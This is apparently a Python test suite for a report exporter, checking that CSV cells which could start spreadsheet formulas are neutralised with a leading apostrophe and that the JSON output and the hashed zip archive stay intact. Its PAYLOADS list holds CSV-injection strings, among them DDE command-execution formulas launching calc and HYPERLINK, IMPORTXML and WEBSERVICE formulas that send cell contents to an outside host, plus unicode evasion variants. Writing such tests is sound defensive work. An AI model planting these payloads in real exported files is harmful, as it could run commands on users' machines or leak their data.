import csv
import json
import re
import zipfile
from hashlib import sha256
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.reports.artefacts import Artefact, about
from cases.reports.blocks import Boxed, Column, Listing, Paragraph, Rule, Section, Sides, quote
from cases.reports.report import report_of
from cases.reports.tables import archive, files_of, harmless, is_number, tables_of
from tests.cases.reports.specimen import Specimen, document_of

# After OWASP's page on CSV injection and the lists that testers use.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"look")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=WEBSERVICE("http://example.com/")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    '" =1+1',
    "\u201c=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66SUM",
    "\ufe62SUM",
    "\u207aSUM",
    " \t=1",
    "|calc",
    "-",
    "=",
    "-1 to 2",
    "- no number",
    "+49 30 1",
]
NUMBERS = ["0", "-1", "\u22121.50", "+3", "1e-5", "-1.5E+10", "95 %", "-3.5 %", "007"]


def document(*blocks):
    return Artefact(
        kind="specimen", title="A specimen", matter="Matter", head="Specimen", about=about(),
        issued_at="2026-11-25T10:11:12+00:00", software="touchstone-audit 0.1.0",
        source_sha256="0" * 64, sections=(Section("s", "Tables", blocks),), designation="SECRET",
    )  # fmt: skip


def listing(key, *rows, columns=("A", "B")):
    return Listing(key, tuple(map(Column, columns)), rows, caption="All", rule=Rule.SUMMARY)


def rows_of(data):
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_a_formula(payload):
    files = files_of(document(listing("a", (payload, "x"), ("y", quote(payload)))))
    head, first, second = rows_of(files["a.csv"])
    named = payload.replace("\0", "<U+0000>")
    assert first[0] == second[1] == re.sub("([\t\r\n])(?=[=])", r"\1'", f"'{named}")
    assert json.loads(files["a.json"])["rows"] == [[payload, "x"], ["y", payload]]
    said = files["README.txt"].decode()
    assert "a.csv, column 1, rows 2: apostrophe in front" in said
    assert "a.csv, column 2, rows 3: apostrophe in front" in said
    assert head == ["A", "B"]


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    files = files_of(document(listing("a", (number, "x"))))
    line = files["a.csv"].decode("utf-8-sig").split("\r\n")[1]
    assert line == f'{number.replace(chr(0x2212), "-")},"x"'
    assert json.loads(files["a.json"])["rows"] == [[number, "x"]]


@pytest.mark.parametrize(
    "text", ["model A", "", "1,234", "a = b", "x-1", "\u2212 0.3 to 0.1", "\u2014"]
)
def test_harmless_text_is_left_alone(text):
    assert harmless(text) == (text, ())
    assert not is_number(text)


def test_a_heading_that_begins_a_formula_is_changed_too():
    files = files_of(document(listing("a", columns=("=A1", "B"))))
    assert rows_of(files["a.csv"]) == [["'=A1", "B"]]
    assert "a.csv, column 1, rows 1: apostrophe in front" in files["README.txt"].decode()


@given(st.lists(st.tuples(st.text(), st.text()), max_size=5))
def test_every_cell_comes_back(rows):
    files = files_of(document(listing("a", *rows)))
    assert json.loads(files["a.json"])["rows"] == [list(row) for row in rows]
    read = rows_of(files["a.csv"])
    assert read == [["A", "B"], *([harmless(cell)[0] for cell in row] for row in rows)]


@given(st.text())
def test_what_is_made_harmless_stays_so(text):
    made, _ = harmless(text)
    assert is_number(made) or made.startswith("'") or not harmless(made)[0].startswith("'")


def test_half_a_surrogate_pair_is_named_in_csv_and_kept_in_json():
    files = files_of(document(listing("a", ("x\ud83d", "\0"))))
    assert rows_of(files["a.csv"])[1] == ["x<U+D83D>", "'<U+0000>"]
    assert json.loads(files["a.json"])["rows"] == [["x\ud83d", "\0"]]


def test_other_separators_divide_no_cell():
    data = files_of(document(listing("a", ("x;=1+1", "y\t =1+1"), ("x", "y\n=1+1"))))["a.csv"]
    text = data.decode("utf-8-sig")
    for separator in ";\t":
        fields = [one for row in csv.reader(StringIO(text), delimiter=separator) for one in row]
        assert not any(one.strip(' "').startswith("=") for one in fields)


def test_tables_in_boxes_are_found_and_a_key_stands_once():
    inner = Boxed((Sides((listing("b"),), (Paragraph("x"), listing("c"))),))
    assert list(tables_of(document(listing("a"), inner))) == ["a", "b", "c"]
    with pytest.raises(ValueError, match="'a' is no key of one table"):
        tables_of(document(listing("a"), listing("a")))
    with pytest.raises(ValueError, match="no key"):
        tables_of(document(listing("../a")))


def test_the_archive_holds_what_its_manifest_says_and_is_the_same_again():
    made = document(listing("a", ("=1", "2")), listing("b", ("-1", "x")))
    data = archive(made)
    assert data == archive(made)
    with zipfile.ZipFile(BytesIO(data)) as opened:
        names = opened.namelist()
        lines = opened.read("manifest-sha256.txt").decode().splitlines()
        listed = dict(line.split("  ")[::-1] for line in lines)
        assert sorted([*listed, "manifest-sha256.txt"]) == sorted(names)
        assert all(sha256(opened.read(name)).hexdigest() == one for name, one in listed.items())
        assert {one.date_time for one in opened.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert names[0] == "manifest-sha256.txt"
    assert b"SECRET" in files_of(made)["README.txt"]


def test_every_table_of_a_report_is_there_with_all_its_rows():
    made = report_of(document_of(Specimen(name="=model {}")))
    tables, files = tables_of(made), files_of(made)
    assert len(tables) >= 5
    for key, table in tables.items():
        read = rows_of(files[f"{key}.csv"])
        assert len(read) == len(table.rows) + 1
        assert not any(cell.startswith(("=", "@")) for row in read for cell in row)
        assert json.loads(files[f"{key}.json"])["rows"] == [list(row) for row in table.rows]
    assert any("'=model" in data.decode() for name, data in files.items() if name.endswith("csv"))
